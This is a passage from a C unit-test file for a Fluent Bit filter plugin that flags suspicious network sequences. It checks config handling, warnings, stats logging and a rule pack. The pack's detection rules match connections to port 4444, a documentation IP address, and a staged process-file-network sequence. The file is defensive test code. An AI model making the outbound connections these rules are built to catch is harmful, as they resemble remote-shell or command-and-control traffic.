/* A misspelt property: Fluent Bit refuses it through the config map, before
 * cb_init, naming it and listing the valid ones. */
static void test_unknown_property(void) {
    struct plugin pl;
    struct filter_instance ins;
    CHECK(plugin_load(&pl));
    if (!pl.handle) return;

    static const struct prop typo[] = {{"rule", "apt_netcon_v5"}, {"max_pending_sequencs", "5000"}};
    log_clear();
    CHECK_INT(start(&pl, &ins, typo, 2), -1);
    CHECK_INT(ins.set_context_calls, 0); /* cb_init never ran */
    CHECK(logged("[error] [config] apt_netcon: unknown configuration property "
                 "'max_pending_sequencs'. The following properties are allowed: config_file, rule,"));
    CHECK(logged(" max_pending_sequences, "));
    CHECK(logged(", and stats_interval."));

    /* Given twice. */
    static const struct prop twice[] = {{"trusted_process_names", "a"},
                                        {"trusted_process_names", "b"}};
    log_clear();
    CHECK_INT(start(&pl, &ins, twice, 2), -1);
    CHECK_INT(ins.set_context_calls, 0);
    CHECK(logged("configuration property 'trusted_process_names' is set 2 times"));

    /* Any case, and the core `active`, pass; the start line lists what was read. */
    static const struct prop ok[] = {
        {"Max_Pending_Sequences", "5000"}, {"active", "true"}, {"stats_interval", "5m"}};
    log_clear();
    CHECK_INT(start(&pl, &ins, ok, 3), 0);
    CHECK(logged("properties: max_pending_sequences, stats_interval"));
    if (ins.context) CHECK_INT(pl.p.cb_exit(ins.context, &config_token), 0);
    plugin_unload(&pl);
}

/* Zero alerts never silently: unparsed records, and stage matches without
 * @timestamp, each give one warning naming the fix. */
static void test_warnings(void) {
    struct plugin pl;
    struct filter_instance ins;
    CHECK(plugin_load(&pl));
    if (!pl.handle) return;
    CHECK_INT(start(&pl, &ins, DEFAULT_PROPS, 2), 0);
    if (ins.context) {
        void *out;
        size_t out_len;
        buf c = {0};
        for (int i = 0; i < 5; i++) rec_unparsed(&c);
        log_clear();
        CHECK_INT(run(&pl, &ins, &c, &out, &out_len), FLB_FILTER_NOTOUCH);
        CHECK_INT(run(&pl, &ins, &c, &out, &out_len), FLB_FILTER_NOTOUCH);
        CHECK_INT(logged_times("[warn]"), 1);
        CHECK(logged("[warn] [filter:apt_netcon:apt_netcon.0] 5 record(s) look unparsed (a single "
                     "member `log` holding a string"));
        CHECK(logged("`Parser json`"));
        buf_free(&c);

        /* Stage-1 records whose @timestamp the parser took away. */
        rec_apt_sh_ts(&c, 0);
        rec_apt_sh_ts(&c, 0);
        log_clear();
        CHECK_INT(run(&pl, &ins, &c, &out, &out_len), FLB_FILTER_NOTOUCH);
        CHECK_INT(run(&pl, &ins, &c, &out, &out_len), FLB_FILTER_NOTOUCH);
        CHECK_INT(logged_times("[warn]"), 1);
        CHECK(logged("[warn] [filter:apt_netcon:apt_netcon.0] 2 stage match(es) had no usable "
                     "@timestamp"));
        CHECK(logged("`Time_Keep On`"));
        buf_free(&c);

        /* Well-formed records after that: no more warnings, alerts as ever. */
        log_clear();
        check_sequence(&pl, &ins, "kibana");
        CHECK(!logged("[warn]"));
        CHECK_INT(pl.p.cb_exit(ins.context, &config_token), 0);
        CHECK(logged("bad_timestamp=4") && logged("unparsed=10"));
    }
    plugin_unload(&pl);
}

/* stats_interval: the counters line at the first chunk once the interval
 * (wall clock) has passed since the start or the last line. */
static void test_stats_interval(void) {
    struct plugin pl;
    struct filter_instance ins;
    CHECK(plugin_load(&pl));
    if (!pl.handle) return;
    static const struct prop props[] = {{"stats_interval", "1s"}};
    log_clear();
    CHECK_INT(start(&pl, &ins, props, 1), 0);
    if (ins.context) {
        void *out;
        size_t out_len;
        buf c = {0};
        rec_ls(&c);
        CHECK_INT(run(&pl, &ins, &c, &out, &out_len), FLB_FILTER_NOTOUCH);
        CHECK_INT(logged_times("counters:"), 0); /* not yet 1 s */
        usleep(1100 * 1000);
        CHECK_INT(run(&pl, &ins, &c, &out, &out_len), FLB_FILTER_NOTOUCH);
        CHECK_INT(logged_times("counters:"), 1);
        CHECK(logged("[info] [filter:apt_netcon:apt_netcon.0] counters: chunks=2 modified=0"));
        CHECK(logged("; detector: records=2 "));
        CHECK_INT(run(&pl, &ins, &c, &out, &out_len), FLB_FILTER_NOTOUCH);
        CHECK_INT(logged_times("counters:"), 1); /* the next one is 1 s away */
        usleep(1100 * 1000);
        CHECK_INT(run(&pl, &ins, &c, &out, &out_len), FLB_FILTER_NOTOUCH);
        CHECK_INT(logged_times("counters:"), 2);
        CHECK(logged("counters: chunks=4 "));
        buf_free(&c);
        CHECK_INT(pl.p.cb_exit(ins.context, &config_token), 0);
        CHECK(logged("exit: chunks=4 "));
    }
    plugin_unload(&pl);
}

static void test_config_file(void) {
    struct plugin pl;
    struct filter_instance ins;
    CHECK(plugin_load(&pl));
    if (!pl.handle) return;
    char path[] = "/tmp/mock_fluentbit_config.XXXXXX";
    int fd = mkstemp(path);
    CHECK(fd >= 0);
    if (fd < 0) {
        plugin_unload(&pl);
        return;
    }
    static const char json[] =
        "{\"annotation_prefix\": \"detections.aptnc\", \"max_pending_sequences\": 5}";
    CHECK(write(fd, json, sizeof json - 1) == (ssize_t)(sizeof json - 1));
    close(fd);

    const struct prop props[] = {{"config_file", path}};
    log_clear();
    CHECK_INT(start(&pl, &ins, props, 1), 0);
    CHECK(logged("properties: config_file"));
    if (ins.context) {
        check_sequence(&pl, &ins, "detections");
        CHECK_INT(pl.p.cb_exit(ins.context, &config_token), 0);
    }

    /* A config file with an unknown key: refused, naming it. */
    fd = open(path, O_WRONLY | O_TRUNC);
    static const char bad[] = "{\"max_pending\": 5}";
    CHECK(fd >= 0 && write(fd, bad, sizeof bad - 1) == (ssize_t)(sizeof bad - 1));
    if (fd >= 0) close(fd);
    log_clear();
    CHECK_INT(start(&pl, &ins, props, 1), -1);
    CHECK(logged("property `config_file`") && logged("max_pending"));
    unlink(path);
    plugin_unload(&pl);
}

static void test_malformed_chunk(void) {
    struct plugin pl;
    struct filter_instance ins;
    CHECK(plugin_load(&pl));
    if (!pl.handle) return;
    CHECK_INT(start(&pl, &ins, DEFAULT_PROPS, 2), 0);
    if (ins.context) {
        void *out;
        size_t out_len;
        /* Chunk 1 cut in the middle of its last record. */
        buf c = {0};
        chunk1(&c);
        c.len -= 5;
        log_clear();
        CHECK_INT(run(&pl, &ins, &c, &out, &out_len), FLB_FILTER_NOTOUCH);
        CHECK(out == NULL && out_len == 0);
        CHECK(logged("[warn]") && logged("not a valid sequence of Fluent Bit records"));
        /* Not a record at all; the reserved byte 0xc1. */
        static const uint8_t junk[] = {0x93, 0x01, 0x02, 0x03, 0xc1};
        buf j = {0};
        put(&j, junk, sizeof junk);
        CHECK_INT(run(&pl, &ins, &j, &out, &out_len), FLB_FILTER_NOTOUCH);
        j.len = 1; /* just 0x93 */
        CHECK_INT(run(&pl, &ins, &j, &out, &out_len), FLB_FILTER_NOTOUCH);
        buf_free(&j);
        buf_free(&c);
        /* A malformed chunk is not shown to the detector at all (its stage-1
         * record was not seen), and the instance keeps working. */
        check_sequence(&pl, &ins, "kibana");
        log_clear();
        CHECK_INT(pl.p.cb_exit(ins.context, &config_token), 0);
        CHECK(logged("malformed=3"));
    }
    plugin_unload(&pl);
}

static void test_null_arguments(void) {
    struct plugin pl;
    CHECK(plugin_load(&pl));
    if (!pl.handle) return;
    buf c = {0};
    chunk2(&c);
    void *out = NULL;
    size_t out_len = 0;
    /* No context (cb_init never succeeded): not touched. */
    CHECK_INT(pl.p.cb_filter(c.p, c.len, "t", 1, &out, &out_len, NULL, NULL, NULL, NULL),
              FLB_FILTER_NOTOUCH);
    CHECK(out == NULL && out_len == 0);
    CHECK_INT(pl.p.cb_exit(NULL, &config_token), 0);
    /* No instance. */
    CHECK_INT(pl.p.cb_init(NULL, &config_token, NULL), -1);
    buf_free(&c);
    plugin_unload(&pl);
}

/* ------------------------------------------------------------------------ */
/* A rule pack. */

static void write_text(const char *dir, const char *name, const char *text) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    FILE *f = fopen(path, "w");
    CHECK(f != NULL);
    if (!f) return;
    CHECK(fputs(text, f) >= 0);
    fclose(f);
}

/* A new directory under the working directory holding, in file-name order,
 * a_port, b_addr, the three-stage c_seq (all completed by pack_rec3),
 * d_quiet (never matches), and e_broken and f_broken, which do not load. */
static int make_pack(char *dir) {
    char tmpl[] = "mock_fb_pack.XXXXXX";
    if (!mkdtemp(tmpl) || !realpath(tmpl, dir)) {
        perror("make_pack");
        failures++;
        return 0;
    }
    write_text(dir, "a_port.eql", "network where destination.port == 4444\n");
    write_text(dir, "b_addr.eql", "network where destination.address == \"203.0.113.9\"\n");
    write_text(dir, "c_seq.eql",
               "sequence by host.id\n"
               "  [process where process.name == \"stage1\"]\n"
               "  [file where file.name == \"stage2\"]\n"
               "  [network where destination.port == 4444]\n");
    write_text(dir, "d_quiet.eql", "process where process.name == \"never-seen\"\n");
    write_text(dir, "e_broken.eql", "network where destination.port ==\n");
    write_text(dir, "f_broken.eql", "this is not eql\n");
    return 1;
}

static void remove_pack(const char *dir) {
    static const char *const names[] = {"a_port.eql", "b_addr.eql", "c_seq.eql", "d_quiet.eql",
                                        "e_broken.eql", "f_broken.eql"};
    char path[4096];
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "%s/%s", dir, names[i]);
        unlink(path);
    }
    rmdir(dir);
}

static void pack_event(buf *b, const char *ts, const char *category, const char *id) {
    kv(b, "@timestamp", ts);
    mp_str(b, "event");
    mp_map(b, 2);
    mp_str(b, "category");
    mp_arr(b, 1);
    mp_str(b, category);
    kv(b, "id", id);
    mp_str(b, "host");
    mp_map(b, 1);
    kv(b, "id", "h1");
}

static void pack_rec1(buf *b) {
    rec_head(b, 1773480600, 0);
    mp_map(b, 4);
    pack_event(b, "2026-03-14T09:30:00.000Z", "process", "e1");
    mp_str(b, "process");
    mp_map(b, 2);
    kv(b, "name", "stage1");
    kv(b, "entity_id", "p1");
}

static void pack_rec2(buf *b) {
    rec_head(b, 1773480601, 0);
    mp_map(b, 4);
    pack_event(b, "2026-03-14T09:30:01.000Z", "file", "e2");
    mp_str(b, "file");
    mp_map(b, 1);
    kv(b, "name", "stage2");
}

static void pack_rec3(buf *b) {
    rec_head(b, 1773480602, 0);
    mp_map(b, 4);
    pack_event(b, "2026-03-14T09:30:02.000Z", "network", "e3");
    mp_str(b, "destination");
    mp_map(b, 3);
    mp_str(b, "port");
    mp_uint(b, 4444);
    kv(b, "address", "203.0.113.9");
    kv(b, "ip", "203.0.113.9");
}

/* A pack with skip_broken_rules: the skipped rules are logged at start; the
 * record completing three rules goes on untouched, followed by one alert
 * record per rule, in rule order; at exit, one line per rule that alerted
 * and per skipped rule. Without skip_broken_rules: refused, every broken
 * rule named. */
static void test_pack(void) {
    char dir[4096];
    if (!make_pack(dir)) return;
    struct plugin pl;
    struct filter_instance ins;
    CHECK(plugin_load(&pl));
    if (!pl.handle) {
        remove_pack(dir);
        return;
    }

    const struct prop strict[] = {{"rules_dir", dir}};
    log_clear();
    CHECK_INT(start(&pl, &ins, strict, 1), -1);
    CHECK_INT(ins.set_context_calls, 0);
    CHECK(logged("[error] [filter:apt_netcon:apt_netcon.0] property `rules_dir`: 2 of 6 rules do not load"));
    CHECK(logged("e_broken.eql: "));
    CHECK(logged("f_broken.eql: "));
    CHECK(logged("; the filter does not start"));

    const struct prop props[] = {{"rules_dir", dir}, {"skip_broken_rules", "true"}};
    log_clear();
    CHECK_INT(start(&pl, &ins, props, 2), 0);
    CHECK(logged("[info] [filter:apt_netcon:apt_netcon.0] a pack of 4 rules (2 skipped: do not load), "
                 "properties: rules_dir, skip_broken_rules"));
    CHECK(logged("[warn] [filter:apt_netcon:apt_netcon.0] skipped rule "));
    CHECK(logged("e_broken.eql: syntax error"));
    CHECK_INT(logged_times("skipped rule "), 2);
    if (ins.context) {
        buf c1 = {0}, c2 = {0};
        pack_rec1(&c1);
        pack_rec2(&c1);
        pack_rec3(&c2);
        void *out;
        size_t out_len;
        CHECK_INT(run(&pl, &ins, &c1, &out, &out_len), FLB_FILTER_NOTOUCH);
        CHECK_INT(run(&pl, &ins, &c2, &out, &out_len), FLB_FILTER_MODIFIED);
        if (out) {
            struct span got[16];
            int n = split(out, out_len, got, 16);
            CHECK_INT(n, 4);
            /* The record itself, byte for byte, then the three alerts. */
            CHECK(n >= 1 && got[0].len == c2.len && memcmp(out, c2.p, c2.len) == 0);
            static const char *const names[] = {"a_port", "b_addr", "c_seq"};
            for (int i = 1; i < n && i < 4; i++) {
                const uint8_t *r = (const uint8_t *)out + got[i].start;
                CHECK(contains(r, got[i].len, "signal"));
                CHECK(contains(r, got[i].len, "e3"));
                for (int j = 0; j < 3; j++)
                    CHECK(contains(r, got[i].len, names[j]) == (j == i - 1));
            }
            free(out);
        }
        log_clear();
        CHECK_INT(pl.p.cb_exit(ins.context, &config_token), 0);
        CHECK(logged("exit: chunks=2 modified=1 records_annotated=0 "));
        CHECK(logged(" standalone_alerts=3;"));
        CHECK(logged("[info] [filter:apt_netcon:apt_netcon.0] exit: rule \"a_port\" (a_port): alerts=1 records="));
        CHECK(logged("exit: rule \"b_addr\" (b_addr): alerts=1 "));
        CHECK(logged("exit: rule \"c_seq\" (c_seq): alerts=1 "));
        CHECK(!logged("d_quiet"));
        CHECK_INT(logged_times("exit: skipped rule "), 2);
        buf_free(&c1);
        buf_free(&c2);
    }
    plugin_unload(&pl);
    remove_pack(dir);
}

#define T(name) {#name, name}
static const struct {
    const char *name;
    void (*fn)(void);
} TESTS[] = {
    T(test_plugin_symbol),
    T(test_pipeline),
    T(test_reload),
    T(test_bad_property),
    T(test_unknown_property),
    T(test_warnings),
    T(test_stats_interval),
    T(test_config_file),
    T(test_malformed_chunk),
    T(test_null_arguments),
    T(test_pack),
};

int main(int argc, char **argv) {
    size_t n = sizeof TESTS / sizeof *TESTS;
    int ran = 0;
    for (size_t i = 0; i < n; i++) {
        if (argc > 1 && strcmp(argv[1], TESTS[i].name) != 0) continue;
        int before = failures;
        TESTS[i].fn();
        fprintf(stderr, "%s %s\n", failures == before ? "ok  " : "FAIL", TESTS[i].name);
        ran++;
    }
    if (ran == 0) {
        fprintf(stderr, "no test named %s\n", argc > 1 ? argv[1] : "(none)");
        return 2;
    }
    return failures ? 1 : 0;
}
